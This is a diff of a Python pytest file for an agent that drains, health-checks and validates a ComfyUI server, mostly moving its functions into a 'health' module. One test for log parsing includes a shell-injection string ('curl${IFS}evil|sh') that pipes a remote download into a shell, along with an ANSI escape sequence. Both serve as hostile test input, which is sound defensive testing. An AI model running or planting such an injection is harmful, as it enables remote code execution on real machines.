@@ -16,10 +16,12 @@ from typing import Any
 
 import pytest
 
-from agent import api, comfyui, jobs, status
+from agent import api
 from agent.api import Endpoint
 from agent.files import Fault, link, write
-from agent.site import Site
+from agent.layout import Site
+from agent.look import jobs, status
+from agent.serve import health
 
 IDLE: dict[str, Any] = {"queue_running": [], "queue_pending": []}
 BUSY = {"queue_running": [[1, "a-job", {"1": {}}, {"create_time": 5000}, []]], "queue_pending": []}
@@ -230,7 +232,7 @@ def test_of_many_jobs_the_first_are_told_and_their_number(tmp_path: Path) -> Non
         seen = status._comfyui(place)
         assert (len(seen["running"]), seen["pending"]) == (100, 5000)
         with pytest.raises(Fault) as raised:
-            comfyui.drain(at(port), 0.1, False, lambda _: None)
+            health.drain(at(port), 0.1, False, lambda _: None)
     assert "5000 running (xxx" in raised.value.report["what"]
     assert len(raised.value.report["what"]) < 1500
 
@@ -266,7 +268,7 @@ def test_what_is_nested_as_deeply_as_json_may_be_is_no_answer(tmp_path: Path, de
     with serving(dict.fromkeys(("/queue", "/history", "/system_stats"), answer)) as port:
         status._comfyui(site(tmp_path, port))
         with pytest.raises(Fault):
-            comfyui.drain(at(port), 0.01, False, lambda _: None)
+            health.drain(at(port), 0.01, False, lambda _: None)
 
 
 # --- drain ---------------------------------------------------------------------------------------------------------
@@ -275,13 +277,13 @@ def test_what_is_nested_as_deeply_as_json_may_be_is_no_answer(tmp_path: Path, de
 def test_a_refused_connection_means_that_nothing_runs() -> None:
     with socket.create_server(("127.0.0.1", 0)) as closed:
         port = closed.getsockname()[1]
-    comfyui.drain(at(port, "127.0.0.1", "::1"), 0, False, lambda _: None)
+    health.drain(at(port, "127.0.0.1", "::1"), 0, False, lambda _: None)
 
 
 @pytest.mark.parametrize(("answers", "delay"), [({"/queue": IDLE}, 8.0), ({"/queue": b"busy"}, 0), ({}, 0)])
 def test_a_comfyui_that_is_slow_or_says_nonsense_may_be_at_work(answers: dict[str, Any], delay: float) -> None:
     with serving(answers, delay=delay) as port, pytest.raises(Fault) as raised:
-        comfyui.drain(at(port), 0.2, False, lambda _: None)
+        health.drain(at(port), 0.2, False, lambda _: None)
     assert raised.value.report["kind"] == "drain"
     assert "its jobs are not known" in raised.value.report["what"]
 
@@ -292,7 +294,7 @@ def test_a_comfyui_that_hangs_is_waited_for_until_it_answers() -> None:
         threading.Timer(1, lambda: answers.update({"/queue": BUSY})).start()
         threading.Timer(2, lambda: answers.update({"/queue": IDLE})).start()
         notes: list[str] = []
-        comfyui.drain(at(port), 20, False, notes.append)
+        health.drain(at(port), 20, False, notes.append)
     assert notes[-1] == "waiting for jobs: 1 running (a-job), 0 waiting"
     assert "its jobs are not known" in notes[0]
 
@@ -300,7 +302,7 @@ def test_a_comfyui_that_hangs_is_waited_for_until_it_answers() -> None:
 def test_with_force_comfyui_is_asked_nothing() -> None:
     asked: list[socket.socket] = []
     with listening(asked.append) as port:
-        comfyui.drain(at(port), 60, True, lambda _: None)
+        health.drain(at(port), 60, True, lambda _: None)
     assert asked == []
 
 
@@ -349,7 +351,7 @@ class Runs:
 
 def test_the_health_check_says_what_answered_instead_of_comfyui() -> None:
     with serving({"/system_stats": {"system": 1}}) as port, pytest.raises(Fault) as raised:
-        comfyui.first_answer(at(port), Runs(), 0.1)
+        health.first_answer(at(port), Runs(), 0.1)
     assert "the answer to /system_stats is not ComfyUI's" in raised.value.report["cause"]
 
 
@@ -357,7 +359,7 @@ def test_what_comfyui_says_of_itself_is_cut_in_messages() -> None:
     release = {"code": "/app", "gate": {"seconds": 1, "version": "0.30.0", "torch": ""}}
     told = {"system": {"comfyui_version": "0.30.0", "pytorch_version": "", "argv": ["x" * 300] * 3000}, "devices": []}
     with serving({"/system_stats": told}) as port, pytest.raises(Fault, match="command line is not the") as raised:
-        comfyui.prove(at(port), Runs(), release, ["python", "/app/main.py"], lambda _: None, lambda: None)
+        health.prove(at(port), Runs(), release, ["python", "/app/main.py"], lambda _: None, lambda: None)
     assert len(str(raised.value.report)) < 5000
 
 
@@ -366,7 +368,7 @@ def test_nodes_that_cannot_be_imported_are_the_releases_and_found_in_time() -> N
     lines += ["(IMPORT FAILED): /" * 5000, "0.1 seconds (IMPORT FAILED): /x/a;curl${IFS}evil|sh #", "filler"] * 100
     lines += ["Cannot import /x/n7 module for custom nodes: no \x1b[2Jway" + "y" * 5000]
     begun = time.monotonic()
-    failed = comfyui._failed_nodes(lines, {"n7", "n9", "fine"})
+    failed = health._failed_nodes(lines, {"n7", "n9", "fine"})
     assert time.monotonic() - begun < 2
     assert failed.keys() == {"n7", "n9"}
     assert failed["n7"].startswith("no  [2Jway")
@@ -381,12 +383,12 @@ def test_a_busy_comfyui_that_answers_late_is_healthy() -> None:
     """A node that computes while it is loaded holds Python's lock, for longer than any other question may take."""
     answers = {"/prompt": {"prompt_id": "1"}, "/history/1": {"1": DONE}, "/view": PICTURE}
     with serving(answers, late=5.5) as port:
-        comfyui._picture(at(port), Runs(), "first", lambda: None, lambda _: None)
+        health._picture(at(port), Runs(), "first", lambda: None, lambda _: None)
 
 
 def test_a_second_workflow_that_hangs_is_unhealthy(monkeypatch: pytest.MonkeyPatch) -> None:
     """comfy-aimdo 0.4.11 was reported to pass the first and to hang in the second (ComfyUI#15269)."""
-    monkeypatch.setattr(comfyui, "WORKFLOW_SECONDS", 0.5)
+    monkeypatch.setattr(health, "WORKFLOW_SECONDS", 0.5)
     pictures: list[str] = []
 
     def ask(_: Endpoint, path: str, body: object = None, **__: object) -> Any:
@@ -395,14 +397,14 @@ def test_a_second_workflow_that_hangs_is_unhealthy(monkeypatch: pytest.MonkeyPat
             return {"prompt_id": str(len(pictures))}
         return {"1": DONE} if path == "/history/1" else {} if path.startswith("/history") else PICTURE
 
-    monkeypatch.setattr(comfyui, "ask", ask)
-    monkeypatch.setattr(comfyui, "first_answer", lambda *_: _stats(STATS))
+    monkeypatch.setattr(health, "ask", ask)
+    monkeypatch.setattr(health, "first_answer", lambda *_: _stats(STATS))
     release = {
         "code": "/app",
         "gate": {"seconds": 1, "version": "0.30.0", "torch": "2.11.0", "cuda": False, "attention": ""},
     }
     with pytest.raises(Fault) as raised:
-        comfyui.prove(at(1), Runs(), release, ["python", "/app/main.py"], lambda _: None, lambda: None)
+        health.prove(at(1), Runs(), release, ["python", "/app/main.py"], lambda _: None, lambda: None)
     assert raised.value.report["what"] == "the second workflow without models does not end within 0.5 s"
     assert len(set(pictures)) == 2
 
